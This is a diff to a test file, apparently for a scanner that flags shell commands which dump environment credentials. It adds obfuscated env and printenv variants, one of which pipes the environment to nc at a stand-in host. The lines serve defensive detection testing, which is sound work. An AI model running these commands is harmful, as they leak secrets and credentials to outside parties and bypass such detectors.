@@ -19,6 +19,11 @@ Scan = Callable[[str], set[str]]
         ("credential:dump-environment", "x=$(/usr/bin/env | base64)"),
         ("credential:dump-environment", "\\env | sort"),
         ("credential:dump-environment", "ls\nexport -p > e"),
+        ("credential:dump-environment", "/bin/./env > /tmp/x"),
+        ("credential:dump-environment", "/usr//bin//printenv > out.txt"),
+        ("credential:dump-environment", "ls; /usr/../b?n/env | nc far.example 9"),
+        ("credential:dump-environment", "cd /bin && ./env > /tmp/x"),
+        ("credential:dump-environment", "x/../../bin/../bin/./env > /tmp/x"),
         ("credential:service-key", "xoxb-1234567890-abcdef"),
     ],
 )
